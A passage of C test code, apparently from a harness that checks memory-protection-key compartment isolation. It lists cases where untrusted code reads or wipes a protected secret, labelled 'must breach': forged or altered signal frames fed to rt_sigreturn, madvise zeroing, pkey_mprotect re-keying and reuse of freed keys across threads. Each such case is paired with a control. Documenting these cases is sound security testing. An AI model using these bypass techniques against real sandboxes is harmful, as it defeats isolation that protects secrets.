        vm_check(win[i].what, c_kernel, (void *)(intptr_t)win[i].mode, win[i].want);
    vm_check("not defended: a handler opens every key in its frame's PKRU, rt_sigreturn loads it "
             "(must breach)", c_sigreturn, (void *)(intptr_t)1, VM_BREACH);
    vm_check("control: the frame's PKRU left as it is (must fault)", c_sigreturn,
             (void *)(intptr_t)0, VM_HELD);
    vm_check("not defended: rt_sigreturn called with no signal on a frame the untrusted side forged "
             "(a copy with PKRU 0), then a load (must breach)", c_sigreturn, (void *)(intptr_t)2,
             VM_BREACH);
    vm_check("control: the same forged frame with its PKRU as it was (must fault)", c_sigreturn,
             (void *)(intptr_t)3, VM_HELD);
    vm_check("not defended: madvise(MADV_DONTNEED) of the secret's page, key closed, zeroes it "
             "(must breach)", c_madvise, (void *)(intptr_t)1, VM_BREACH);
    vm_check("control: no madvise, the secret intact (must hold)", c_madvise, (void *)(intptr_t)0,
             VM_PASS);
    vm_check("not defended: pkey_mprotect of the secret's page to key 0, key closed, then a load "
             "(must breach)", c_syscall_undo, (void *)(intptr_t)1, VM_BREACH);
    vm_check("control: the same load without pkey_mprotect (must fault)", c_syscall_undo,
             (void *)(intptr_t)0, VM_PKUERR);
    vm_check("not defended: a second thread allocates and frees a key, keeps it open in its PKRU, "
             "and reads the secret of the compartment that gets the key next (must breach)",
             c_syscall_undo, (void *)(intptr_t)3, VM_BREACH);
    vm_check("control: a second thread that freed no key (must fault)", c_syscall_undo,
             (void *)(intptr_t)2, VM_PKUERR);
    vm_check("attack: getrusage answered by a seccomp filter without writing: no trusted stack "
             "word comes back (must hold)", c_fake_getrusage, NULL, VM_PASS);
}
